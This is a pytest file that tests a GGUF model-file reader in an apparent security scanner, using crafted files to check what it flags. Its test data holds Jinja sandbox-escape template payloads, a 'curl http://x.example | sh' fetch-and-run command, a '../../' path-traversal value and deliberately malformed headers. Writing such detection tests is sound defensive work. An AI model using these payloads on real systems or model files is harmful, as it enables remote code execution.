"""GGUF files: their header, settings, templates and tensors."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mlsecops.models.readers.gguf import GgufReader
from support.parts import read_with, reasons, rules, subjects
from support.witness import MARK, Witness

U32, STRING, ARRAY, F32 = 4, 8, 9, 6
TEMPLATE = "tokenizer.chat_template"
CLEAN = "{% for m in messages %}{{ m.content }}{% endfor %}"


def text(value: str | bytes) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(data)) + data


def entry(key: str, kind: int, value: bytes) -> bytes:
    return text(key) + struct.pack("<I", kind) + value


def tensor(name: str, shape: tuple[int, ...], kind: int = 0, offset: int = 0) -> bytes:
    sizes = b"".join(struct.pack("<Q", each) for each in shape)
    return text(name) + struct.pack("<I", len(shape)) + sizes + struct.pack("<IQ", kind, offset)


def gguf(
    *entries: bytes,
    tensors: tuple[bytes, ...] = (),
    data: int | None = 0,
    counts: tuple[int, int] | None = None,
    alignment: int = 32,
) -> bytes:
    counts = counts or (len(tensors), len(entries))
    head = b"GGUF" + struct.pack("<IQQ", 3, *counts) + b"".join(entries) + b"".join(tensors)
    if data is None or not tensors:
        return head
    return head + bytes(-len(head) % alignment) + bytes(data)


WHOLE = gguf(
    entry("general.architecture", STRING, text("llama")),
    entry("general.name", STRING, text("tiny")),
    entry("general.alignment", U32, struct.pack("<I", 32)),
    entry("llama.block_count", U32, struct.pack("<I", 1)),
    entry("tokenizer.ggml.tokens", ARRAY, struct.pack("<IQ", STRING, 2) + text("a") + text("b")),
    entry("tokenizer.ggml.scores", ARRAY, struct.pack("<IQ", F32, 2) + bytes(8)),
    entry("quantize.imatrix.file", STRING, text("/models/x.imatrix")),
    entry(TEMPLATE, STRING, text(CLEAN)),
    tensors=(tensor("a", (32, 2), 8, 0), tensor("b", (8,), 0, 96)),
    data=128,
)


def test_a_whole_file_is_no_fact(tmp_path: Path) -> None:
    found = read_with(tmp_path, WHOLE, GgufReader())
    assert (found.facts, found.unread, found.formats) == ({}, [], ["GGUF"])
    assert found.details == {"name": "tiny"}


def test_both_byte_orders_and_the_first_version(tmp_path: Path) -> None:
    big = b"GGUF" + struct.pack(">IQQ", 3, 0, 1) + struct.pack(">Q", 1) + b"a" + struct.pack(">If", F32, 1.0)
    first = (
        b"GGUF" + struct.pack("<III", 1, 0, 1) + struct.pack("<I", 1) + b"a" + struct.pack("<If", F32, 1.0)
    )
    for data in (big, first):
        found = read_with(tmp_path, data, GgufReader())
        assert (found.facts, found.unread) == ({}, [])


@pytest.mark.parametrize(
    "entries",
    [
        (entry(TEMPLATE, STRING, text("{{ ''.__class__ }}")),),
        (entry(f"{TEMPLATE}.tool_use", STRING, text("{{ ''.__class__ }}")),),
        (entry(TEMPLATE, ARRAY, struct.pack("<IQ", STRING, 1) + text("{{ ''.__class__ }}")),),
        (entry(TEMPLATE, STRING, text(CLEAN)), entry(TEMPLATE, STRING, text("{{ ''.__class__ }}"))),
    ],
)
def test_every_template_is_looked_at(tmp_path: Path, entries: tuple[bytes, ...]) -> None:
    found = read_with(tmp_path, gguf(*entries), GgufReader())
    assert "__class__" in subjects(found, "template-escape")


def test_one_template_is_one_fact_whatever_it_names(tmp_path: Path) -> None:
    escape = "{{ ''.__class__.__base__.__subclasses__().__init__.__globals__ }}"
    found = read_with(tmp_path, gguf(entry(TEMPLATE, STRING, text(escape))), GgufReader())
    [fact] = found.facts.values()
    assert fact.subject == "__base__, __class__, __globals__, __init__, __subclasses__"
    assert fact.message.endswith("and does 1 more thing of that kind.")


def test_other_texts_are_looked_at(tmp_path: Path) -> None:
    data = gguf(
        entry("general.description", STRING, text("curl http://x.example | sh")),
        entry("adapter.file", STRING, text("../../other.bin")),
    )
    assert rules(read_with(tmp_path, data, GgufReader())) == ["config-path-escapes", "embedded-command"]


HUGE = 1 << 62
BROKEN = {
    "many tensors": gguf(counts=(HUGE, 0)),
    "many settings": gguf(counts=(0, HUGE)),
    "long name": gguf(struct.pack("<Q", HUGE), counts=(0, 1)) + bytes(99),
    "name of 70 kB": gguf(text("a" * 70_000)) + bytes(99),
    "long text": gguf(entry("a", STRING, struct.pack("<Q", HUGE))),
    "long list": gguf(entry("a", ARRAY, struct.pack("<IQ", F32, HUGE))),
    "long list of texts": gguf(entry("a", ARRAY, struct.pack("<IQ", STRING, HUGE))),
    "lists in lists": gguf(entry("a", ARRAY, struct.pack("<IQ", ARRAY, 1) * 9 + bytes(99))),
    "no alignment": gguf(entry("general.alignment", U32, bytes(4))),
    "alignment 33": gguf(entry("general.alignment", U32, struct.pack("<I", 33))),
    "alignment as text": gguf(entry("general.alignment", STRING, text("32"))),
    "twice": gguf(entry("a", U32, bytes(4)), entry("a", U32, bytes(4))),
}


@pytest.mark.parametrize("data", BROKEN.values(), ids=BROKEN)
def test_headers_that_mislead_are_facts(tmp_path: Path, data: bytes) -> None:
    assert "gguf-header" in rules(read_with(tmp_path, data, GgufReader()))


TENSORS = {
    "overflow": (tensor("a", (HUGE, HUGE)),),
    "bytes overflow": (tensor("a", (HUGE, 1)),),
    "dimensions": (tensor("a", (1, 1, 1, 1, 1)),),
    "offset": (tensor("a", (8,), 0, 7),),
    "huge offset": (tensor("a", (8,), 0, 1 << 63),),
    "overlap": (tensor("a", (8,)), tensor("b", (8,), 0, 0)),
    "hole": (tensor("a", (8,)), tensor("b", (8,), 0, 64)),
    "half a block": (tensor("a", (8,), 8),),
    "twice": (tensor("a", (8,)), tensor("a", (8,), 0, 32)),
    "long name": (text("a" * 5000) + bytes(40),),
}


@pytest.mark.parametrize("tensors", TENSORS.values(), ids=TENSORS)
def test_tensors_that_mislead_are_facts(tmp_path: Path, tensors: tuple[bytes, ...]) -> None:
    assert "gguf-tensors" in rules(read_with(tmp_path, gguf(tensors=tensors, data=4096), GgufReader()))


def test_bytes_behind_the_tensors_are_odd_and_read(tmp_path: Path) -> None:
    witness = Witness()
    data = gguf(tensors=(tensor("a", (8,)),), data=32) + MARK
    found = read_with(tmp_path, data, GgufReader(), witness)
    assert [fact.severity for fact in found.facts.values()] == [5.0]
    assert witness.contents == [MARK]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (WHOLE[:60], "cut off"),
        (WHOLE[:-1], "cut off: 1 bytes"),
        (WHOLE[:9], "cut off"),
        (b"GGUF" + struct.pack("<IQQ", 77, 0, 0), "version 77"),
        (gguf(entry("a", 99, b"")), "type that is not known (99)"),
        (gguf(entry("a", ARRAY, struct.pack("<IQ", 99, 0))), "type that is not known (99)"),
        (gguf(entry(TEMPLATE, STRING, text("{% if"))), "Jinja"),
        (gguf(entry("a", ARRAY, struct.pack("<IQ", F32, 100))), "cut off"),
    ],
)
def test_what_cannot_be_read_says_so(tmp_path: Path, data: bytes, reason: str) -> None:
    found = read_with(tmp_path, data, GgufReader())
    assert reason in " ".join(reasons(found))
    assert not found.facts


def test_tensors_of_newer_types_are_taken_on_trust(tmp_path: Path) -> None:
    data = gguf(tensors=(tensor("a", (8,), 4242), tensor("b", (8,), 0, 96)), data=128)
    found = read_with(tmp_path, data, GgufReader())
    assert (found.facts, found.unread) == ({}, [])


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(WHOLE) - 1), st.binary(min_size=1, max_size=9))
def test_any_bytes_are_read_or_not(tmp_path_factory: pytest.TempPathFactory, at: int, junk: bytes) -> None:
    folder = tmp_path_factory.getbasetemp()
    found = read_with(folder, b"GGUF" + WHOLE[4:at] + junk + WHOLE[at + len(junk) :], GgufReader())
    assert not any("itself failed" in reason for reason in reasons(found))
